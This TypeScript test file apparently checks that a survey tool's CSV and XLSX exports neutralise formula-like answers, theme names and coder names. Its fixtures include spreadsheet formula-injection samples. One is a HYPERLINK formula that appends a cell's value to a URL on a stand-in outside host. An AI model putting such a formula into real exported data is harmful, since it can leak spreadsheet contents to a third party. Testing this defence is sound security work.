/**
 * Case C12: answers starting with =, +, -, @ or TAB. They are imported
 * through the real import route, then exported: every such cell is
 * neutralised in CSV (a `'` in front); XLSX cells are typed strings, never
 * formulas, holding exactly the stored text (no `'`, which Excel would
 * show); and the stored text stays exactly as written.
 */

import { inflateRawSync } from 'node:zlib';
import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import type { ReportCommentsReply } from '../../shared/api/report';
import { useTestApp } from '../helpers/app';
import * as seed from '../helpers/factories';
import { importRoutes } from '../helpers/imports';
import { sharedFile } from '../helpers/multipart';
import { commentIdsOf } from '../helpers/queries';

const caseFile = sharedFile('cases/C12/formula_comments.csv');

const STORED: Record<string, string> = {
  P701: '=HYPERLINK("http://example.invalid/?q="&A1,"More info")',
  P702: '+44 is the code for the helpline number',
  P703: '- fewer meetings\n- shorter forms',
  P704: '@school staff should ask me first',
  P705: '\t=1+2',
  P706: '=1+1',
  P707: 'Cost=time was never explained',
};

/** The named entry of a zip file (an XLSX workbook), inflated. */
function zipEntry(zip: Buffer, name: string): string {
  let offset = 0;
  // Walk the local file headers (signature PK\x03\x04) from the start.
  while (zip.readUInt32LE(offset) === 0x04034b50) {
    const flags = zip.readUInt16LE(offset + 6);
    const method = zip.readUInt16LE(offset + 8);
    const nameLength = zip.readUInt16LE(offset + 26);
    const extraLength = zip.readUInt16LE(offset + 28);
    const entryName = zip.toString(
      'utf8',
      offset + 30,
      offset + 30 + nameLength,
    );
    const start = offset + 30 + nameLength + extraLength;
    // Streamed entries (flag bit 3) carry their size after the data, so
    // take it from the central directory instead.
    const size =
      flags & 8 ? centralSize(zip, entryName) : zip.readUInt32LE(offset + 18);
    const data = zip.subarray(start, start + size);
    if (entryName === name) {
      return (method === 8 ? inflateRawSync(data) : data).toString('utf8');
    }
    offset =
      start + size + (flags & 8 ? descriptorLength(zip, start + size) : 0);
  }
  throw new Error(`${name} is not in the zip`);
}

function centralSize(zip: Buffer, name: string): number {
  let offset = zip.lastIndexOf(Buffer.from([0x50, 0x4b, 0x05, 0x06]));
  const entries = zip.readUInt16LE(offset + 10);
  offset = zip.readUInt32LE(offset + 16);
  for (let i = 0; i < entries; i++) {
    const nameLength = zip.readUInt16LE(offset + 28);
    const entryName = zip.toString(
      'utf8',
      offset + 46,
      offset + 46 + nameLength,
    );
    if (entryName === name) return zip.readUInt32LE(offset + 20);
    offset +=
      46 +
      nameLength +
      zip.readUInt16LE(offset + 30) +
      zip.readUInt16LE(offset + 32);
  }
  throw new Error(`${name} is not in the central directory`);
}

function descriptorLength(zip: Buffer, at: number): number {
  return zip.readUInt32LE(at) === 0x08074b50 ? 16 : 12;
}

describe('case C12: formula-like answers on export', () => {
  const t = useTestApp();
  let projectId = 0;
  let coder = 0;

  beforeAll(async () => {
    projectId = seed.project(t.db, { name: 'C12' });
    const mapping = {
      layout: 'wide',
      headerRows: 1,
      idColumn: 'RespondentID',
      group: { column: 'Group' },
      questions: [{ column: 'change', key: 'change', label: '=Change?' }],
    };
    await importRoutes(t).importFile(projectId, caseFile, mapping);

    // Theme and coder names that start like formulas, coding every comment.
    const theme = seed.theme(t.db, projectId, { name: '=SUM(A1:A9)' });
    coder = seed.coder(t.db, { name: '@coder' });
    for (const id of commentIdsOf(t.db, projectId))
      seed.coding(t.db, id, { coderId: coder, themeIds: [theme] });
  });

  const get = (path: string) =>
    t.app.inject({ method: 'GET', url: `/api/projects/${projectId}/${path}` });

  it('neutralises the right CSV cells and keeps the file valid', async () => {
    const res = await get(`exports/codings-long.csv?coderId=${coder}`);
    expect(res.statusCode).toBe(200);
    const records = parse(res.body, { bom: true });
    const data = records.slice(1);
    expect(data).toHaveLength(7);
    const text = new Map(data.map((r) => [r[0], r[5]]));
    for (const [id, stored] of Object.entries(STORED)) {
      expect(text.get(id), id).toBe(id === 'P707' ? stored : `'${stored}`);
    }
    expect(text.get('P703')).toBe("'- fewer meetings\n- shorter forms");
    // Every exported text, not only the answers.
    for (const row of data) {
      expect(row[3]).toBe("'=Change?");
      expect(row[6]).toBe("'@coder");
      expect(row[7]).toBe("'=SUM(A1:A9)");
    }
    // Quotes are balanced: an even number of them in the whole file.
    expect((res.body.match(/"/g) ?? []).length % 2).toBe(0);
  });

  it('neutralises codings-wide headers (theme names) too', async () => {
    const res = await get('exports/codings-wide.csv');
    const [header, ...rows] = parse(res.body, { bom: true });
    expect(header?.at(-1)).toBe("'=SUM(A1:A9)");
    expect(rows).toHaveLength(7);
    expect(rows.every((r) => r.at(-1) === '1')).toBe(true);
  });

  it('writes XLSX cells as strings, never formulas, exactly as stored', async () => {
    const res = await get(`exports/codings-long.xlsx?coderId=${coder}`);
    expect(res.statusCode).toBe(200);
    const zip = res.rawPayload;
    const sheet = zipEntry(zip, 'xl/worksheets/sheet1.xml');
    expect(sheet).toContain('<row');
    expect(sheet).not.toMatch(/<f[\s>]/);
    // Every text cell is a shared string (t="s"), not an inline formula.
    expect(sheet).not.toMatch(/t="(str|e)"/);
    const strings = zipEntry(zip, 'xl/sharedStrings.xml');
    expect(strings).toContain('<t>=1+1</t>');
    expect(strings).not.toContain('&apos;=');
    expect(strings).not.toMatch(/<f[\s>]/);

    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(zip as unknown as ArrayBuffer);
    const texts = new Map<string, unknown>();
    const rows: unknown[][] = [];
    workbook.worksheets[0]?.eachRow((row, n) => {
      row.eachCell((cell) => {
        expect(cell.formula).toBeUndefined();
        expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
      });
      if (n === 1) return;
      texts.set(row.getCell(1).text, row.getCell(6).value);
      rows.push([4, 7, 8].map((c) => row.getCell(c).value));
    });
    // The exact stored text of every answer, no apostrophe added.
    expect(Object.fromEntries(texts)).toEqual(STORED);
    for (const row of rows) {
      expect(row).toEqual(['=Change?', '@coder', '=SUM(A1:A9)']);
    }
  });

  it('leaves the stored text unchanged', async () => {
    const res = await get('report/comments?limit=10');
    const reply = res.json<ReportCommentsReply>();
    expect(reply.total).toBe(7);
    const stored = Object.fromEntries(
      reply.comments.map((c) => [c.respondentExternalId, c.text]),
    );
    expect(stored).toEqual(STORED);
  });
});
